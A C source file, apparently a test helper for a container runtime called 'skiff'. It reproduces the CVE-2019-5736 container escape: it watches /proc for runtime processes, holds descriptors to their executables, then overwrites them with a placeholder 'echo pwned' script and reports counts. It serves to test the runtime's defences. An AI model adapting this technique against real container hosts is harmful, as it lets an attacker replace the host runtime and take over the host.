/* exe-watcher DONE SECONDS [COMM-PREFIX]: the ptrace side of CVE-2019-5736, run as a container's
 * process. Until the file DONE exists (or SECONDS pass) it watches /proc for the runtime's
 * processes (comm starting with COMM-PREFIX, default "skiff"), tries to open their exe for writing,
 * and keeps an O_PATH fd of each exe it reaches; then it reopens those for writing (the runtime has
 * exited: no ETXTBSY) and writes a script over them. It prints
 *   "seen=N exe_paths=N exe_writes=N reopened=N written=N"
 * Opening another process's exe needs ptrace access to it: a non-dumpable process is reached only
 * with CAP_SYS_PTRACE over its mm's user namespace. */
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

int main(int argc, char **argv) {
  static int seen[4096], paths[1024];
  int n_seen = 0, n_paths = 0, writes = 0, reopened = 0, written = 0;
  const char *prefix = argc > 3 ? argv[3] : "skiff";
  struct stat busybox;
  if (argc < 3 || stat("/bin/busybox", &busybox) < 0)
    return 1;
  time_t end = time(NULL) + atoi(argv[2]);
  while (access(argv[1], F_OK) != 0 && time(NULL) < end) {
    DIR *d = opendir("/proc");
    struct dirent *e;
    while (d && (e = readdir(d))) {
      int pid = atoi(e->d_name), known = 0;
      char path[64], comm[32] = "";
      if (pid <= 1 || pid == getpid())
        continue;
      snprintf(path, sizeof path, "/proc/%d/comm", pid);
      int c = open(path, O_RDONLY | O_CLOEXEC);
      if (c >= 0) {
        ssize_t n = read(c, comm, sizeof comm - 1);
        comm[n > 0 ? n : 0] = 0;
        close(c);
      }
      if (strncmp(comm, prefix, strlen(prefix)) != 0)
        continue;
      for (int i = 0; i < n_seen; i++)
        known |= seen[i] == pid;
      if (!known && n_seen < 4096)
        seen[n_seen++] = pid;
      snprintf(path, sizeof path, "/proc/%d/exe", pid);
      int w = open(path, O_WRONLY | O_CLOEXEC);
      if (w >= 0) {
        writes++;
        close(w);
      }
      /* The process may have gone on meanwhile to skiff's exec trampoline (its own sealed memfd)
       * or to the container's busybox: those are not the runtime's binary and do not count. */
      int p = open(path, O_PATH | O_CLOEXEC);
      struct stat st;
      char link[256];
      ssize_t n = p >= 0 ? readlink(path, link, sizeof link - 1) : -1;
      link[n > 0 ? n : 0] = 0;
      if (p >= 0 && fstat(p, &st) == 0 && !(st.st_ino == busybox.st_ino && st.st_dev == busybox.st_dev) &&
          strncmp(link, "/memfd:skiff-exec", 17) != 0 && n_paths < 1024)
        paths[n_paths++] = p, p = -1;
      if (p >= 0)
        close(p);
    }
    if (d)
      closedir(d);
  }
  for (int i = 0; i < n_paths; i++) {
    char path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%d", paths[i]);
    int w = open(path, O_WRONLY | O_CLOEXEC);
    if (w >= 0) {
      reopened++;
      if (write(w, "#!/bin/sh\necho pwned\n", 21) == 21)
        written++;
      close(w);
    }
  }
  printf("seen=%d exe_paths=%d exe_writes=%d reopened=%d written=%d\n", n_seen, n_paths, writes, reopened,
         written);
  return 0;
}
